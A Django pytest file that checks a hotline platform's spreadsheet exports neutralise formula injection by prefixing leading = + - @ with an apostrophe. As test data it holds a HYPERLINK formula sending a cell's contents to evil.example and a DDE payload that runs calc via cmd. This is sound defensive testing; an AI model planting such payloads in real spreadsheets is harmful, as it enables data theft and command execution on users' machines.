"""Every spreadsheet the platform writes carries a person's text as text: a leading = + - @, tab
or CR is neutralised (OWASP's apostrophe) and no cell is a formula. One test over every export
view: the ledger, the 12345 results (by job and by source), the 12345 error list."""

import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from linli.core.spreadsheets import FORMULA_STARTS
from linli.hotline.models import HotlineOrder
from linli.hotline.testing import order_row, xlsx_bytes

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(data):
    book = load_workbook(io.BytesIO(data))  # not read-only: data_type says whether a cell is a formula
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(data, *texts):
    cells = cells_of(data)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in values if value.startswith(FORMULA_STARTS)]
    for text in texts:
        assert "'" + text in values, (text, repr(values))  # kept, as text


def test_every_export_writes_typed_text_as_text(client, hotline, personas, tree, report):
    report(description=HOSTILE, address="=1+1")
    rows = [order_row(0, **{"诉求内容": "@SUM(1+1)*cmd|' /C calc'!A0", "诉求人": "-3+4"}),
            order_row(1, **{"工单编号": "@EVIL", "来电时间": "不是时间"})]  # refused: into the error list
    job = hotline(xlsx_bytes(rows))
    client.force_login(personas.street_dispatcher)

    today = timezone.localdate()
    ledger = client.get(reverse("cases:ledger_export"), {
        "area": tree.street_a.code, "date_from": today.replace(day=1).isoformat(), "date_to": today.isoformat()})
    assert ledger.status_code == 200
    assert_inert(body_of(ledger), HOSTILE, "=1+1")

    by_job = client.get(reverse("hotline:export_job", args=[job.pk]))
    assert_inert(body_of(by_job), "@SUM(1+1)*cmd|' /C calc'!A0", "-3+4")
    start = rows[0]["来电时间"].date()
    by_source = client.get(reverse("hotline:export_source", args=[job.source_id]),
                           {"date_from": start.isoformat(), "date_to": start.isoformat()})
    assert_inert(body_of(by_source), "-3+4")

    assert HotlineOrder.objects.filter(job=job).count() == 1 and job.error_file
    errors = client.get(reverse("hotline:errors", args=[job.pk]))
    assert errors.status_code == 200
    assert_inert(body_of(errors), "@EVIL")
